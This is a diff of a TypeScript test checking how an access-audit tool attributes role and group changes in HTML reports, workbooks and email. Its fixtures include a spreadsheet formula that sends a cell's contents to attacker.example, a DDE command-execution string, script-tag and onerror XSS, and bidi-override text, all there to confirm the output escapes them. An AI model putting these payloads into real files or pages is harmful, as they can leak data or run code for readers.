@@ -1,13 +1,15 @@
 /**
  * Who made each change, in the HTML report, the workbook and the change email: an organization
- * crawled twice over HTTP from the simulator into a real DuckDB file, with changes made between
- * the crawls whose attribution is known (a manual group's membership: not in the audit log; a
- * SCIM group's membership: by SCIM; role grants: unattributed, as the simulator does not serve
- * the audit log yet and every sync after a crawl fails with a 404, recorded as a gap). The email
- * goes through a real SMTP server on loopback and is parsed back; the HTML is opened in Chromium,
- * on screen and for print. A copy of the database gets an audit log written through the store's
- * own sync writer with a hostile actor and a hostile failure reason, which must come out escaped,
- * revealed and neutralised. Nothing of ours is mocked.
+ * crawled three times over HTTP from the simulator into a real DuckDB file, each crawl syncing the
+ * simulator's audit log. Between the first two crawls, changes whose attribution is known: roles
+ * granted in a person's console session and through an API key (attributed), a manual group's
+ * membership (not in the audit log), a SCIM group's membership (by SCIM), roles granted while
+ * audit logging was off (unattributed, though the log covers the interval), and a grant made by a
+ * person whose email and address are hostile. Between the second and third, a grant while the
+ * admin key may not read the log (the sync is refused: a gap, unattributed with the reason). A copy
+ * of the database gets a failed sync with a hostile reason through the store's own sync writer.
+ * The email goes through a real SMTP server on loopback and is parsed back; the HTML is opened in
+ * Chromium, on screen and for print. Nothing of ours is mocked.
  */
 import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
@@ -20,7 +22,6 @@ import type { Browser, Page } from "playwright-core";
 import { SMTPServer } from "smtp-server";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { AttributionStatus } from "../src/analysis/attribution.js";
-import type { AuditLog } from "../src/api/index.js";
 import { renderChangeReportEmail, sendChangeReport } from "../src/deliver/email.js";
 import { changeReportEmail } from "../src/deliver/report-email.js";
 import { revealInvisible } from "../src/render/index.js";
@@ -35,134 +36,228 @@ import { hasChromium, launchChromium } from "./support/browser.js";
 /** What a value looks like in the HTML: invisible characters revealed, then HTML-escaped. */
 const rendered = (value: string): string => Handlebars.escapeExpression(revealInvisible(value));
 
-/** The ids of what the cases make, filled before the first crawl. */
+/** A person with a hostile email, acting from a hostile address. */
+const HOSTILE_EMAIL = `=HYPERLINK("http://attacker.example/?x="&A1,"x")<script>alert('actor')</script>\u202Eexe@evil.example`;
+const HOSTILE_IP = "203.0.113.7\u200B<b>bold</b>";
+/** The reason of a failed sync written into the copy. */
+const HOSTILE_REASON = `=cmd|' /C calc'!A0 <script>alert('reason')</script> \u202Edaer\u202C`;
+/** Alice's console session. */
+const ALICE_IP = "198.51.100.7";
+
+/** The ids of what the cases use, made before the first crawl. */
 interface Made {
   manualGroup: string;
   scimGroup: string;
   adminGroup: string;
+  keyGroup: string;
+  hostileGroup: string;
+  alice: string;
+  hostileUser: string;
   joiner: string;
   scimJoiner: string;
   scimLeaver: string;
   grantee: string;
+  lateGrantee: string;
+  keyId: string;
   ownerRole: string;
   adminRole: string;
   usageRole: string;
+  billingRole: string;
+  userAdminRole: string;
 }
 
-/** One change made between the crawls, and what every report must say about who made it. */
+/**
+ * The two intervals: `covered` (first to second crawl: the audit log held covers it) and `gap`
+ * (second to third: the third crawl's sync is refused, so nothing after the second sync is held).
+ */
+type Interval = "covered" | "gap";
+
+/** One change made between two crawls, and what every report must say about who made it. */
 interface Case {
   name: string;
-  /** Makes the change on the simulator (between the two crawls). */
+  interval: Interval;
+  /** Makes the change on the simulator. */
   make: (sim: RunningSimulator, m: Made) => void;
   /** Finds the change in the report model. */
   find: (c: ReportChange, m: Made) => boolean;
   status: AttributionStatus;
   /** The Actor column. */
-  label: string | RegExp;
-  /** The reason shown under it. */
+  label: (m: Made) => string | RegExp;
+  /** The reason shown under it (null: none, as for an attributed change). */
   reason: RegExp | null;
   /** What the changes are grouped by. */
-  madeBy: string;
+  madeBy: (m: Made) => string | RegExp;
   elevated: boolean;
+  /** Matching audit-log events. */
+  events: number;
 }
 
-/** The reason of a change an event was expected for, while the audit log has a gap. */
-const GAP_REASON =
-  /^the audit log held does not cover \S+ to \S+ \(failed sync: the audit log could not be read: 404 /;
+const at = "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z";
+const literal = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
+/** An unattributed change in an interval the audit log covers. */
+const OUT_OF_BAND =
+  /^no matching event in the audit log, which covers this interval: the change was made out of band, or audit logging was off$/;
+/** An unattributed change in the gap the refused sync left. */
+const GAP =
+  /^the audit log held does not cover \S+ to \S+ \(failed sync: the admin key may not read the audit log \(HTTP 403\)/;
 
-/**
- * TODO(report.attribution.test.ts, "every change carries the attribution its case expects"):
- * once the simulator serves the audit log, add the `attributed` case here: e.g. a role granted
- * through the simulator's API by a session, expected as status "attributed", label
- * /^by \S+ \(user_\w+\) from \S+ at / and madeBy the person; the audit log then covers the
- * interval, so GAP_REASON (and the gap expectations in "audit log" below) become the covered
- * wording ("no matching event in the audit log, which covers this interval…").
- */
+/** Every change made between the crawls, in one place: add a case here to cover another. */
 const CASES: Case[] = [
   {
+    name: "Owner granted to a manual group in a person's session: attributed to her",
+    interval: "covered",
+    make: (sim, m) =>
+      sim.state.asActor({ kind: "session", userId: m.alice, ipAddress: ALICE_IP }, () =>
+        sim.state.assignGroupRole(m.adminGroup, m.ownerRole),
+      ),
+    find: (c, m) =>
+      c.kind === "group_role_granted" && c.group_id === m.adminGroup && c.role_id === m.ownerRole,
+    status: "attributed",
+    label: (m) =>
+      new RegExp(`^by alice@corp\\.example \\(${m.alice}\\) from ${literal(ALICE_IP)} at ${at}$`),
+    reason: null,
+    madeBy: (m) => `alice@corp.example (${m.alice})`,
+    elevated: true,
+    events: 1,
+  },
+  {
+    name: "an elevated role granted to a manual group through an API key: attributed to the key",
+    interval: "covered",
+    make: (sim, m) =>
+      sim.state.asActor({ kind: "api_key", keyId: m.keyId }, () =>
+        sim.state.assignGroupRole(m.keyGroup, m.adminRole),
+      ),
+    find: (c, m) =>
+      c.kind === "group_role_granted" && c.group_id === m.keyGroup && c.role_id === m.adminRole,
+    status: "attributed",
+    label: (m) => new RegExp(`^by API key ${literal(m.keyId)} of .+ at ${at}$`),
+    reason: null,
+    madeBy: (m) => new RegExp(`^API key ${literal(m.keyId)} of `),
+    elevated: true,
+    events: 1,
+  },
+  {
     name: "a manual group's new member: not in the audit log",
+    interval: "covered",
     make: (sim, m) => sim.state.addMember(m.manualGroup, m.joiner),
     find: (c, m) =>
       c.kind === "member_added" && c.group_id === m.manualGroup && c.user_id === m.joiner,
     status: "not_logged",
-    label: "not in the audit log",
+    label: () => "not in the audit log",
     reason:
       /^the API logs no organization-level event when a member is added to or removed from a group$/,
-    madeBy: "not in the audit log",
+    madeBy: () => "not in the audit log",
     elevated: false,
+    events: 0,
   },
   {
     name: "a SCIM group's new member: by SCIM",
+    interval: "covered",
     make: (sim, m) => sim.state.addMember(m.scimGroup, m.scimJoiner),
     find: (c, m) =>
       c.kind === "member_added" && c.group_id === m.scimGroup && c.user_id === m.scimJoiner,
     status: "scim",
-    label: "by SCIM",
+    label: () => "by SCIM",
     reason: /the directory manages this through SCIM/,
-    madeBy: "SCIM",
+    madeBy: () => "SCIM",
     elevated: false,
+    events: 0,
   },
   {
     name: "a SCIM group's member removed: by SCIM",
+    interval: "covered",
     make: (sim, m) => sim.state.removeMember(m.scimGroup, m.scimLeaver),
     find: (c, m) =>
       c.kind === "member_removed" && c.group_id === m.scimGroup && c.user_id === m.scimLeaver,
     status: "scim",
-    label: "by SCIM",
+    label: () => "by SCIM",
     reason: /the directory manages this through SCIM/,
-    madeBy: "SCIM",
+    madeBy: () => "SCIM",
     elevated: false,
+    events: 0,
   },
   {
-    name: "Owner granted to a manual group: elevated and unattributed",
-    make: (sim, m) => sim.state.assignGroupRole(m.adminGroup, m.ownerRole),
-    find: (c, m) =>
-      c.kind === "group_role_granted" && c.group_id === m.adminGroup && c.role_id === m.ownerRole,
-    status: "unattributed",
-    label: "unattributed",
-    reason: GAP_REASON,
-    madeBy: "unattributed",
-    elevated: true,
-  },
-  {
-    name: "an elevated custom role granted to a user directly: elevated and unattributed",
-    make: (sim, m) => sim.state.assignUserRole(m.grantee, m.adminRole),
+    name: "an elevated role granted to a user while audit logging was off: nobody accounts for it",
+    interval: "covered",
+    make: (sim, m) => {
+      sim.setAuditLogMode("disabled");
+      sim.state.assignUserRole(m.grantee, m.adminRole);
+      sim.setAuditLogMode("enabled");
+    },
     find: (c, m) =>
       c.kind === "user_role_granted" && c.user_id === m.grantee && c.role_id === m.adminRole,
     status: "unattributed",
-    label: "unattributed",
-    reason: GAP_REASON,
-    madeBy: "unattributed",
+    label: () => "unattributed",
+    reason: OUT_OF_BAND,
+    madeBy: () => "unattributed",
     elevated: true,
+    events: 0,
   },
   {
-    name: "a read-only role granted to a user directly: unattributed, not elevated",
-    make: (sim, m) => sim.state.assignUserRole(m.grantee, m.usageRole),
+    name: "a read-only role granted while audit logging was off: unattributed, not elevated",
+    interval: "covered",
+    make: (sim, m) => {
+      sim.setAuditLogMode("disabled");
+      sim.state.assignUserRole(m.grantee, m.usageRole);
+      sim.setAuditLogMode("enabled");
+    },
     find: (c, m) =>
       c.kind === "user_role_granted" && c.user_id === m.grantee && c.role_id === m.usageRole,
     status: "unattributed",
-    label: "unattributed",
-    reason: GAP_REASON,
-    madeBy: "unattributed",
+    label: () => "unattributed",
+    reason: OUT_OF_BAND,
+    madeBy: () => "unattributed",
     elevated: false,
+    events: 0,
+  },
+  {
+    name: "an elevated role granted by a person with a hostile email and address",
+    interval: "covered",
+    make: (sim, m) =>
+      sim.state.asActor({ kind: "session", userId: m.hostileUser, ipAddress: HOSTILE_IP }, () =>
+        sim.state.assignGroupRole(m.hostileGroup, m.billingRole),
+      ),
+    find: (c, m) =>
+      c.kind === "group_role_granted" &&
+      c.group_id === m.hostileGroup &&
+      c.role_id === m.billingRole,
+    status: "attributed",
+    label: (m) =>
+      new RegExp(
+        `^${literal(`by ${HOSTILE_EMAIL} (${m.hostileUser}) from ${HOSTILE_IP} at `)}${at}$`,
+      ),
+    reason: null,
+    madeBy: (m) => `${HOSTILE_EMAIL} (${m.hostileUser})`,
+    elevated: true,
+    events: 1,
+  },
+  {
+    name: "an elevated role granted while the admin key may not read the log: a gap",
+    interval: "gap",
+    make: (sim, m) => sim.state.assignUserRole(m.lateGrantee, m.userAdminRole),
+    find: (c, m) =>
+      c.kind === "user_role_granted" &&
+      c.user_id === m.lateGrantee &&
+      c.role_id === m.userAdminRole,
+    status: "unattributed",
+    label: () => "unattributed",
+    reason: GAP,
+    madeBy: () => "unattributed",
+    elevated: true,
+    events: 0,
   },
 ];
 
-/** The number of elevated changes nobody can account for, from the cases. */
-const UNACCOUNTED = CASES.filter((c) => c.elevated && c.status === "unattributed").length;
-
-/** The hostile actor and failure reason written into the copy's audit log. */
-const HOSTILE_EMAIL = `=HYPERLINK("http://attacker.example/?x="&A1,"x")<script>alert('actor')</script>\u202Eexe@evil.example`;
-const HOSTILE_USER_ID = `user_"><img src=x onerror=alert(5)>`;
-const HOSTILE_IP = "203.0.113.7\u200B<b>bold</b>";
-const HOSTILE_REASON = `=cmd|' /C calc'!A0 <script>alert('reason')</script> \u202Edaer\u202C`;
+const casesOf = (interval: Interval): Case[] => CASES.filter((c) => c.interval === interval);
+/** The elevated changes nobody can account for in an interval, from the cases. */
+const unaccounted = (interval: Interval): number =>
+  casesOf(interval).filter((c) => c.elevated && c.status === "unattributed").length;
 
 interface Org {
   sim: RunningSimulator;
   dir: string;
   dbPath: string;
-  first: number;
-  second: number;
+  snapshots: [number, number, number];
   made: Made;
 }
 
@@ -180,39 +275,63 @@ async function crawlOrganization(): Promise<Org> {
   });
   const s = sim.state;
   const user = (name: string) => s.createUser({ name, email: `${name}@corp.example` }).id;
+  const key = s.simulatorKeyActor();
+  if (key?.kind !== "api_key") throw new Error("the simulator has no key of its own");
   const made: Made = {
     manualGroup: s.createGroup("Finance readers", { isScimManaged: false }).id,
     scimGroup: s.createGroup("Directory engineers", { isScimManaged: true }).id,
     adminGroup: s.createGroup("Break-glass admins", { isScimManaged: false }).id,
+    keyGroup: s.createGroup("Automation admins", { isScimManaged: false }).id,
+    hostileGroup: s.createGroup("Billing", { isScimManaged: false }).id,
+    alice: user("alice"),
+    hostileUser: s.createUser({ name: "Mallory", email: HOSTILE_EMAIL }).id,
     joiner: user("joiner"),
     scimJoiner: user("scim-joiner"),
     scimLeaver: user("scim-leaver"),
     grantee: user("grantee"),
+    lateGrantee: user("late-grantee"),
+    keyId: key.keyId,
     ownerRole: s.ownerRoleId,
     adminRole: roleId(sim, "Project Administrator"),
     usageRole: roleId(sim, "Usage Viewer"),
+    billingRole: roleId(sim, "Billing Manager"),
+    userAdminRole: roleId(sim, "User Administrator"),
   };
   s.addMember(made.scimGroup, made.scimLeaver);
   s.addMember(made.adminGroup, user("admin-member"));
   const first = await crawlInto(sim, dbPath);
-  for (const c of CASES) c.make(sim, made);
+  for (const c of casesOf("covered")) c.make(sim, made);
   const second = await crawlInto(sim, dbPath);
-  return { sim, dir, dbPath, first, second, made };
+  for (const c of casesOf("gap")) c.make(sim, made);
+  // The third crawl's sync is refused (HTTP 403): the rest of the interval is a gap.
+  sim.setAuditLogMode("forbidden");
+  const third = await crawlInto(sim, dbPath);
+  sim.setAuditLogMode("enabled");
+  return { sim, dir, dbPath, snapshots: [first, second, third], made };
 }
 
-async function modelOf(path: string): Promise<ReportModel> {
+async function modelOf(path: string, snapshotId: number): Promise<ReportModel> {
   const store = await Store.open(path, { readOnly: true });
   try {
-    return await buildReportModel(store, { toolVersion: "9.9.9-test", templateVersion: "t-test" });
+    return await buildReportModel(store, {
+      snapshotId,
+      toolVersion: "9.9.9-test",
+      templateVersion: "t-test",
+    });
   } finally {
     await store.close();
   }
 }
 
-async function workbookOf(dbPath: string, file: string): Promise<ExcelJS.Workbook> {
+async function workbookOf(
+  dbPath: string,
+  snapshotId: number,
+  file: string,
+): Promise<ExcelJS.Workbook> {
   const store = await Store.open(dbPath, { readOnly: true });
   try {
     const model = await buildReportModel(store, {
+      snapshotId,
       toolVersion: "9.9.9-test",
       templateVersion: "t-test",
     });
@@ -251,48 +370,20 @@ function elementHtml(html: string, tag: string, id: string): string {
   return html.slice(from, end + tag.length + 3);
 }
 
-/**
- * Writes a complete sync to `path` (through the store's sync writer) that covers only the first
- * half second of the interval and holds one event: the Owner grant to `groupId`, made in a session
- * by a hostile actor; then a failed sync with a hostile reason, so the rest is a gap.
- */
-async function writeHostileAuditLog(
-  path: string,
-  window: { from: string; to: string },
-  groupId: string,
-  snapshotId: number,
-): Promise<void> {
-  const from = Date.parse(window.from) / 1000;
-  const meta = (startedAtMs: number) => ({
-    baseUrl: "http://127.0.0.1:1/v1",
-    keyRedacted: "sk-admin...test",
-    toolVersion: "test",
-    snapshotId,
-    startedAtMs,
-  });
-  const event = {
-    id: "audit_log-hostile-1",
-    type: "role.assignment.created",
-    effective_at: from,
-    actor: {
-      type: "session",
-      session: { user: { id: HOSTILE_USER_ID, email: HOSTILE_EMAIL }, ip_address: HOSTILE_IP },
-    },
-    "role.assignment.created": {
-      id: "ra_hostile",
-      principal_id: groupId,
-      principal_type: "group",
-      resource_id: "org_sim",
-      resource_type: "api.organization",
-    },
-  } as AuditLog;
+/** Records a failed sync with `reason` in the database at `path`, through the store's writer. */
+async function writeFailedSync(path: string, reason: string, snapshotId: number): Promise<void> {
   const store = await Store.open(path);
   try {
-    await store.auditSync(meta(from * 1000 + 500), async (writer) => {
-      await writer.add([event]);
-      return writer.complete({ readFrom: null, coverageFrom: from, requests: 1 });
-    });
-    await store.auditSync(meta(from * 1000 + 600), (writer) => writer.fail(HOSTILE_REASON, 1));
+    await store.auditSync(
+      {
+        baseUrl: "http://127.0.0.1:1/v1",
+        keyRedacted: "sk-admin...test",
+        toolVersion: "test",
+        snapshotId,
+        startedAtMs: Date.now(),
+      },
+      (writer) => writer.fail(reason, 1),
+    );
   } finally {
     await store.close();
   }
@@ -329,42 +420,62 @@ async function startSmtp(): Promise<{
   };
 }
 
+const STATUS_NAMES: Record<AttributionStatus, string> = {
+  unattributed: "Unattributed",
+  attributed: "Attributed",
+  scim: "SCIM",
+  not_logged: "Not in the audit log",
+};
+
 describe("who made each change, in the reports and the change email", () => {
   let org: Org;
-  let model: ReportModel;
-  let html: string;
-  let workbook: ExcelJS.Workbook;
+  /** The second snapshot's report: changes since the first, in an interval the log covers. */
+  let covered: ReportModel;
+  let coveredHtml: string;
+  let coveredBook: ExcelJS.Workbook;
+  /** The third snapshot's report: changes since the second, in the refused sync's gap. */
+  let gap: ReportModel;
+  let gapHtml: string;
+  /** The third snapshot's report from the copy with a hostile failed sync. */
   let hostilePath: string;
   let hostile: ReportModel;
   let hostileHtml: string;
-  let hostileWorkbook: ExcelJS.Workbook;
+  let hostileBook: ExcelJS.Workbook;
   let browser: Browser | undefined;
 
+  const caseNamed = (prefix: string): Case => {
+    const found = CASES.find((c) => c.name.startsWith(prefix));
+    if (!found) throw new Error(`no case ${prefix}`);
+    return found;
+  };
   const change = (m: ReportModel, c: Case): { change: ReportChange; index: number } => {
     const index = m.changes.findIndex((x) => c.find(x, org.made));
     const found = m.changes[index];
     if (found === undefined) throw new Error(`no change for case: ${c.name}`);
     return { change: found, index };
   };
-  const ownerGrant = CASES[3] as Case;
+  const modelOfInterval = (interval: Interval): ReportModel =>
+    interval === "covered" ? covered : gap;
 
   beforeAll(async () => {
     org = await crawlOrganization();
-    model = await modelOf(org.dbPath);
-    html = renderHtml(model);
-    workbook = await workbookOf(org.dbPath, join(org.dir, "report.xlsx"));
+    const [, second, third] = org.snapshots;
+    covered = await modelOf(org.dbPath, second);
+    coveredHtml = renderHtml(covered);
+    coveredBook = await workbookOf(org.dbPath, second, join(org.dir, "covered.xlsx"));
+    gap = await modelOf(org.dbPath, third);
+    gapHtml = renderHtml(gap);
     hostilePath = join(org.dir, "hostile.duckdb");
     copyFileSync(org.dbPath, hostilePath);
-    const window = model.audit_log?.window;
-    if (!window) throw new Error("no audit-log window");
-    await writeHostileAuditLog(hostilePath, window, org.made.adminGroup, org.second);
-    hostile = await modelOf(hostilePath);
+    await writeFailedSync(hostilePath, HOSTILE_REASON, third);
+    hostile = await modelOf(hostilePath, third);
     hostileHtml = renderHtml(hostile);
-    hostileWorkbook = await workbookOf(hostilePath, join(org.dir, "hostile.xlsx"));
+    hostileBook = await workbookOf(hostilePath, third, join(org.dir, "hostile.xlsx"));
     // REPORT_HTML_OUT keeps the reports somewhere to look at.
     const out = process.env.REPORT_HTML_OUT;
     if (out !== undefined) {
-      writeFileSync(join(out, "attribution.html"), html);
+      writeFileSync(join(out, "attribution-covered.html"), coveredHtml);
+      writeFileSync(join(out, "attribution-gap.html"), gapHtml);
       writeFileSync(join(out, "attribution-hostile.html"), hostileHtml);
     }
     if (hasChromium) browser = await launchChromium();
@@ -377,119 +488,140 @@ describe("who made each change, in the reports and the change email", () => {
 
   it("every change carries the attribution its case expects", () => {
     for (const c of CASES) {
-      const { change: found } = change(model, c);
+      const m = modelOfInterval(c.interval);
+      const { change: found } = change(m, c);
       const a = found.attribution;
       expect(a.status, c.name).toBe(c.status);
-      if (typeof c.label === "string") expect(a.label, c.name).toBe(c.label);
-      else expect(a.label, c.name).toMatch(c.label);
+      expect(a.label, c.name).toMatch(c.label(org.made));
       if (c.reason === null) expect(a.reason, c.name).toBeNull();
       else expect(a.reason, c.name).toMatch(c.reason);
-      expect(a.made_by, c.name).toBe(c.madeBy);
+      expect(a.made_by, c.name).toMatch(c.madeBy(org.made));
       expect(found.elevated, c.name).toBe(c.elevated);
-      expect(a.event_ids, c.name).toEqual([]);
-      expect(a.event_time, c.name).toBeNull();
+      expect(a.event_ids, c.name).toHaveLength(c.events);
+      if (c.events === 0) expect(a.event_time, c.name).toBeNull();
+      else expect(a.label, c.name).toContain(` at ${a.event_time}`);
     }
-    // Every change has an attribution; the totals and the by-actor counts add up.
-    const t = model.attribution_totals;
-    expect(t.attributed + t.scim + t.not_logged + t.unattributed).toBe(model.changes.length);
-    expect(t.unattributed_elevated).toBe(UNACCOUNTED);
-    expect(model.changes_by_actor.reduce((n, a) => n + a.changes, 0)).toBe(model.changes.length);
+    for (const m of [covered, gap]) {
+      // Every change has an attribution; the totals and the by-actor counts add up.
+      const t = m.attribution_totals;
+      expect(t.attributed + t.scim + t.not_logged + t.unattributed).toBe(m.changes.length);
+      expect(m.changes_by_actor.reduce((n, a) => n + a.changes, 0)).toBe(m.changes.length);
+    }
+    expect(covered.attribution_totals.unattributed_elevated).toBe(unaccounted("covered"));
+    expect(gap.attribution_totals.unattributed_elevated).toBe(unaccounted("gap"));
   });
 
-  it("audit log: the interval is not covered, and each failed sync says why", () => {
-    const a = model.audit_log;
-    expect(a).not.toBeNull();
-    expect(a?.covered).toBe(false);
-    expect(a?.syncs).toBe(2);
-    expect(a?.gaps).toEqual([a?.window]);
-    expect(a?.failed_syncs.map((s) => s.reason)).toEqual([
-      expect.stringMatching(/^the audit log could not be read: 404 /),
-      expect.stringMatching(/^the audit log could not be read: 404 /),
-    ]);
-    expect(model.audit_log_note).toMatch(
-      /^The audit log held covers none of the interval of the changes, from \S+ to \S+: /,
+  it("audit log: the first interval is covered; the refused sync leaves a gap that says why", () => {
+    expect(covered.audit_log).toMatchObject({ covered: true, gaps: [], failed_syncs: [] });
+    expect(covered.audit_log_note).toMatch(
+      /^The audit log held covers the whole interval of the changes, from \S+ to \S+: /,
     );
-    // Where a complete sync covers part of it, the note names the rest.
-    expect(hostile.audit_log_note).toMatch(
+    const g = gap.audit_log;
+    expect(g?.covered).toBe(false);
+    expect(g?.gaps).toHaveLength(1);
+    expect(g?.failed_syncs.map((s) => s.reason)).toEqual([
+      expect.stringMatching(/^the admin key may not read the audit log \(HTTP 403\)/),
+    ]);
+    expect(gap.audit_log_note).toMatch(
       /^The audit log held does not cover \S+ to \S+ of the interval of the changes \(from /,
     );
-    expect(model.audit_log_note).toContain("Sync 2 (started ");
-    // Which audit log the attributions were read from: the head of its chain.
-    expect(model.audit_log_head).toEqual({
-      sync_id: 2,
-      seal: expect.stringMatching(/^[0-9a-f]{64}$/),
-    });
+    expect(gap.audit_log_note).toContain(`Sync ${g?.failed_syncs[0]?.sync_id} (started `);
+    // Which audit log the attributions were read from: the head of its chain, the newest sync
+    // in the database whichever snapshot is reported on.
+    for (const m of [covered, gap]) {
+      expect(m.audit_log_head).toEqual({
+        sync_id: 3,
+        seal: expect.stringMatching(/^[0-9a-f]{64}$/),
+      });
+    }
     expect(hostile.audit_log_head?.sync_id).toBe(4);
     for (const [m, text] of [
-      [model, html],
-      [hostile, hostileHtml],
+      [covered, coveredHtml],
+      [gap, gapHtml],
     ] as const) {
       const head = `Sync ${m.audit_log_head?.sync_id}, seal ${m.audit_log_head?.seal}`;
       expect(text).toContain(`<code class="seal">${head}</code>`);
       expect(text).toContain(`Read from the audit log held up to s${head.slice(1)}`);
     }
-    const seals = rowsOf(hostileWorkbook, "Summary").find((r) => r.item === "Audit log head");
+    const seals = rowsOf(hostileBook, "Summary").find((r) => r.item === "Audit log head");
     expect(seals).toMatchObject({ section: "Seals", value: hostile.audit_log_head?.seal });
   });
 
-  it("groups changes by actor: unattributed first, then SCIM, then what the log does not record", () => {
-    const count = (status: AttributionStatus, elevated = false) =>
-      model.changes.filter((c) => c.attribution.status === status && (!elevated || c.elevated))
-        .length;
-    expect(model.changes_by_actor).toEqual([
-      {
-        made_by: "unattributed",
-        status: "unattributed",
-        changes: count("unattributed"),
-        elevated: UNACCOUNTED,
-      },
-      { made_by: "SCIM", status: "scim", changes: count("scim"), elevated: 0 },
-      {
-        made_by: "not in the audit log",
-        status: "not_logged",
-        changes: count("not_logged"),
-        elevated: count("not_logged", true),
-      },
-    ]);
+  it("groups changes by actor: unattributed first, then people and keys, SCIM, the unlogged", () => {
+    const order: AttributionStatus[] = ["unattributed", "attributed", "scim", "not_logged"];
+    const statuses = covered.changes_by_actor.map((a) => a.status);
+    expect(statuses).toEqual([...statuses].sort((a, b) => order.indexOf(a) - order.indexOf(b)));
+    expect(new Set(statuses)).toEqual(new Set(order));
+    // The people and keys, by name; each with its changes and its elevated ones.
+    const actors = covered.changes_by_actor.filter((a) => a.status === "attributed");
+    const names = actors.map((a) => a.made_by);
+    expect(names).toEqual([...names].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0)));
+    for (const a of covered.changes_by_actor) {
+      const mine = covered.changes.filter(
+        (c) => c.attribution.status === a.status && c.attribution.made_by === a.made_by,
+      );
+      expect(a.changes, a.made_by).toBe(mine.length);
+      expect(a.elevated, a.made_by).toBe(mine.filter((c) => c.elevated).length);
+    }
+    const alice = actors.find((a) => a.made_by === `alice@corp.example (${org.made.alice})`);
+    // The grant and the Owner it gave the group's member: one event explains both.
+    expect(alice).toMatchObject({ changes: 2, elevated: 1 });
   });
 
   it("HTML: the summary opens with the elevated changes nobody can account for", () => {
-    const summary = elementHtml(html, "section", "summary");
-    const box = summary.indexOf('id="unaccounted"');
-    expect(box).toBeGreaterThan(0);
-    expect(box).toBeLessThan(summary.indexOf('class="lede"'));
-    expect(summary).toContain(`Elevated changes nobody can account for (${UNACCOUNTED})`);
-    expect(summary).toContain('class="unaccounted has-unaccounted"');
-    for (const c of CASES.filter((x) => x.elevated && x.status === "unattributed")) {
-      const { index } = change(model, c);
-      expect(summary, c.name).toContain(`href="#change-${index + 1}"`);
+    for (const [interval, m, html] of [
+      ["covered", covered, coveredHtml],
+      ["gap", gap, gapHtml],
+    ] as const) {
+      const summary = elementHtml(html, "section", "summary");
+      const box = summary.indexOf('id="unaccounted"');
+      expect(box, interval).toBeGreaterThan(0);
+      expect(box, interval).toBeLessThan(summary.indexOf('class="lede"'));
+      expect(summary).toContain(
+        `Elevated changes nobody can account for (${unaccounted(interval)})`,
+      );
+      expect(summary).toContain('class="unaccounted has-unaccounted"');
+      for (const c of casesOf(interval)) {
+        const { index } = change(m, c);
+        const linked = summary.includes(`href="#change-${index + 1}"`);
+        expect(linked, c.name).toBe(c.elevated && c.status === "unattributed");
+      }
+      expect(summary).toContain(
+        `${m.attribution_totals.unattributed} unattributed, ${unaccounted(interval)} of them elevated.`,
+      );
     }
-    // A not-elevated unattributed change is not among them.
-    const { index: usage } = change(model, CASES[5] as Case);
-    expect(summary).not.toContain(`href="#change-${usage + 1}"`);
-    expect(summary).toContain(
-      `${model.attribution_totals.unattributed} unattributed, ${UNACCOUNTED} of them elevated.`,
-    );
   });
 
-  it("HTML: the change section states the audit-log coverage and the changes by actor", () => {
-    const section = elementHtml(html, "section", "changes");
-    const coverage = elementHtml(section, "div", "audit-log-coverage");
-    expect(coverage).toContain("has-gaps");
-    expect(coverage).toContain(rendered(model.audit_log_note?.split(" Sync 1")[0] ?? "?"));
-    for (const s of model.audit_log?.failed_syncs ?? []) {
-      expect(coverage).toContain(rendered(`sync ${s.sync_id} (started ${s.started_at}) failed: `));
-      expect(coverage).toContain(rendered(s.reason ?? "?"));
+  it("HTML: the change section states the coverage, who made the changes, and each actor", () => {
+    const coverage = (html: string) =>
+      elementHtml(elementHtml(html, "section", "changes"), "div", "audit-log-coverage");
+    expect(coverage(coveredHtml)).toContain("is-covered");
+    expect(coverage(coveredHtml)).toContain(rendered(covered.audit_log_note ?? "?"));
+    const gapBox = coverage(gapHtml);
+    expect(gapBox).toContain("has-gaps");
+    for (const s of gap.audit_log?.failed_syncs ?? []) {
+      expect(gapBox).toContain(rendered(`sync ${s.sync_id} (started ${s.started_at}) failed: `));
+      expect(gapBox).toContain(rendered(s.reason ?? "?"));
     }
+
+    const section = elementHtml(coveredHtml, "section", "changes");
     const byActor = elementHtml(section, "table", "changes-by-actor");
     const rows = [...byActor.matchAll(/<tr class="attr-(\w+)">(.*?)<\/tr>/g)].map((m) => [
       m[1],
       (m[2] ?? "").replace(/<[^>]+>/g, "|").replace(/\|+/g, "|"),
     ]);
+    const who = (a: ReportModel["changes_by_actor"][number]) =>
+      a.status === "attributed"
+        ? rendered(a.made_by)
+        : {
+            unattributed: "Unattributed: nobody can be named",
+            scim: "SCIM",
+            not_logged: "Not in the audit log",
+          }[a.status];
     expect(rows).toEqual(
-      model.changes_by_actor.map((a) => [
+      covered.changes_by_actor.map((a) => [
         a.status,
-        `|${{ unattributed: "Unattributed: nobody can be named", scim: "SCIM", not_logged: "Not in the audit log", attributed: a.made_by }[a.status]}|${{ unattributed: "Unattributed", scim: "SCIM", not_logged: "Not in the audit log", attributed: "Attributed" }[a.status]}|${a.changes}|${a.elevated}|`,
+        `|${who(a)}|${STATUS_NAMES[a.status]}|${a.changes}|${a.elevated}|`,
       ]),
     );
     // The table lists every change once, grouped by actor in the by-actor order.
@@ -497,63 +629,68 @@ describe("who made each change, in the reports and the change email", () => {
     const order = [...table.matchAll(/<td class="actor attr-(\w+)" data-sort="(\d+)">/g)].map((m) =>
       Number(m[2]),
     );
-    expect(order).toHaveLength(model.changes.length);
+    expect(order).toHaveLength(covered.changes.length);
     expect(order).toEqual([...order].sort((a, b) => a - b));
-    // Each case's row: the label, its reason as text (not a tooltip), elevated marked.
+    // Each case's row: the label, its reason as text (not a tooltip), events, elevated marked.
     for (const c of CASES) {
-      const { change: found, index } = change(model, c);
-      const row = elementHtml(table, "tr", `change-${index + 1}`);
-      expect(row, c.name).toContain(
-        `<span class="actor-label">${rendered(found.attribution.label)}</span>`,
-      );
-      expect(row, c.name).toContain(
-        `<span class="actor-reason">${rendered(found.attribution.reason ?? "?")}</span>`,
-      );
+      const m = modelOfInterval(c.interval);
+      const html = c.interval === "covered" ? coveredHtml : gapHtml;
+      const { change: found, index } = change(m, c);
